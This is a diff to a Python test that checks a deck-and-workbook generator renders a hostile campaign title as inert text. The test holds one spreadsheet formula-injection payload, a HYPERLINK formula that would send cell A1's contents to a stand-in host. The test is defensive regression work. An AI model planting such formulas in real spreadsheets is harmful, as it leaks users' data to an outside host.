@@ -9,6 +9,7 @@ from pathlib import Path
 
 import yaml
 from openpyxl import load_workbook
+from pptx import Presentation
 
 from conftest import Cli
 from kakeai_ops.outputs.review_pptx import Chart, Slide, write_deck
@@ -56,13 +57,24 @@ def test_a_campaign_id_starting_with_equals_is_text_in_the_deck(
     data = yaml.load(sample_copy.config_path.read_text(encoding="utf-8"), Loader=yaml.CSafeLoader)
     campaign = data["campaigns"].pop("exec-1on1-2026h2")
     hostile = '=HYPERLINK("https://x.invalid/?"&A1,"x")'
-    campaign["title"] = hostile  # the chart names campaigns by their titles
+    campaign["title"] = hostile  # slide 7's table and message name campaigns by title
     data["campaigns"][hostile] = campaign
     sample_copy.config_path.write_text(
         yaml.dump(data, allow_unicode=True, Dumper=yaml.CSafeDumper), "utf-8"
     )
-    deck = tmp_path / "deck.pptx"
-    Cli(sample_copy)("review", "--out", str(deck))
-    cells = embedded_cells(deck)
-    assert not [c for c in cells if c[0] == "f"]
-    assert (("s", hostile, True)) in cells
+    deck, book = tmp_path / "deck.pptx", tmp_path / "deck.xlsx"
+    Cli(sample_copy)("review", "--out", str(deck), "--xlsx", str(book))
+    assert not [c for c in embedded_cells(deck) if c[0] == "f"]
+    slide = next(
+        s
+        for s in Presentation(str(deck)).slides
+        if any(
+            shape.name == "Topic" and shape.text_frame.text.startswith("7.") for shape in s.shapes
+        )
+    )
+    table = next(shape.table for shape in slide.shapes if shape.has_table)
+    assert table.cell(1, 0).text == hostile  # the campaign's row, as written
+    # The review workbook's sheet 7 holds it as text, quote-prefixed.
+    sheet = next(s for s in load_workbook(book).worksheets if s.title.startswith("7_"))
+    cells = [c for row in sheet.iter_rows() for c in row if c.value == hostile]
+    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
